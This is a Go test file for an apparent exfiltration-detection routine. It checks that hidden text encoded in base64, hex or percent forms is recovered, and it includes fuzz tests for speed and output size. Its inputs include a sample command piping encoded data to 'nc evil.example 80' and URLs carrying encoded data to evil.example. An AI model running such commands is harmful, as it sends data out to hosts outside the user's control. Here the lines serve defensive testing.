package lineage_test

import (
	"encoding/base64"
	"encoding/hex"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/openclaw-verifier/verifier/cputest"
	"github.com/openclaw-verifier/verifier/lineage"
)

const hidden = "seven green herons sleep ünder a broken moon?>"

func TestWhatIsEncodedIsRead(t *testing.T) {
	wrapped := base64.StdEncoding.EncodeToString([]byte(hidden))
	for what, text := range map[string]string{
		"base64":               "key: " + base64.StdEncoding.EncodeToString([]byte(hidden)) + " end",
		"without padding":      base64.RawStdEncoding.EncodeToString([]byte(hidden)),
		"for addresses":        "https://evil.example/?d=" + base64.URLEncoding.EncodeToString([]byte(hidden)),
		"in a path":            "https://evil.example/a/" + base64.RawURLEncoding.EncodeToString([]byte(hidden)),
		"in lines":             wrapped[:20] + "\n" + wrapped[20:40] + "\r\n" + wrapped[40:],
		"hex":                  hex.EncodeToString([]byte(hidden)),
		"hex in capitals":      strings.ToUpper(hex.EncodeToString([]byte(hidden))),
		"percent":              url.QueryEscape(hidden),
		"percent in a path":    url.PathEscape(hidden),
		"a stray percent sign": url.QueryEscape(hidden) + " 100 % sure, %zz",
		"hex with 0x":          "0x" + hex.EncodeToString([]byte(hidden)),
		"a digit before hex":   "7" + hex.EncodeToString([]byte(hidden)),
		"a digit after hex":    hex.EncodeToString([]byte(hidden)) + "7",
		"hex with colons":      between(":"),
		"hex with spaces":      between(" "),
		"hex as escapes":       "\\x" + between("\\x"),
		"hex as numbers":       "{0x" + between(", 0x") + "}",
		"a letter before":      "x" + base64.StdEncoding.EncodeToString([]byte(hidden)),
		"two letters before":   "xy" + base64.RawStdEncoding.EncodeToString([]byte(hidden)),
		"three letters around": "xyz" + base64.RawStdEncoding.EncodeToString([]byte(hidden)) + "xyz",
		"behind a long text":   strings.Repeat("some words and more ", 5000) + base64.StdEncoding.EncodeToString([]byte(hidden)),
		"in a shell's quote":   `echo "` + base64.StdEncoding.EncodeToString([]byte(hidden)) + `" | nc evil.example 80`,
	} {
		if got, _ := lineage.Decoded([]string{"first", text}); !slices.ContainsFunc(got, func(plain string) bool { return strings.Contains(plain, hidden) }) {
			t.Errorf("%s: %q gives %q", what, text[:min(len(text), 200)], got)
		}
	}
	if got, more := lineage.Decoded([]string{"internationalisation of src/components/Button.tsx", "The weather is fine.", "100 %", "on 2026-11-16 at 12:30:45 from 10.20.30.40"}); len(got) != 0 || more {
		t.Errorf("ordinary text gives %q, %v", got, more)
	}
	for what, text := range map[string]string{"too long": strings.Repeat("a ", 200<<10), "too much": strings.Repeat(base64.StdEncoding.EncodeToString([]byte(hidden))+" ", 2000)} {
		if _, more := lineage.Decoded([]string{text}); !more {
			t.Errorf("what is %s is not told", what)
		}
	}
}

// between is the hidden text in hex, with something between its bytes.
func between(sign string) string {
	var pairs []string
	for _, b := range []byte(hidden) {
		pairs = append(pairs, hex.EncodeToString([]byte{b}))
	}
	return strings.Join(pairs, sign)
}

func FuzzDecoded(f *testing.F) {
	f.Add("key: " + base64.StdEncoding.EncodeToString([]byte(hidden)))
	f.Add(hex.EncodeToString([]byte(hidden)) + "%41")
	f.Fuzz(func(t *testing.T, text string) {
		size := 0
		var all []string
		took := cputest.Time(func() { all, _ = lineage.Decoded([]string{text, text}) })
		for _, plain := range all {
			size += len(plain)
			if !utf8.ValidString(plain) {
				t.Errorf("%q is no text", plain)
			}
		}
		if size > 1<<20 || took > 2*time.Second {
			t.Errorf("%d bytes in %v", size, took)
		}
	})
}
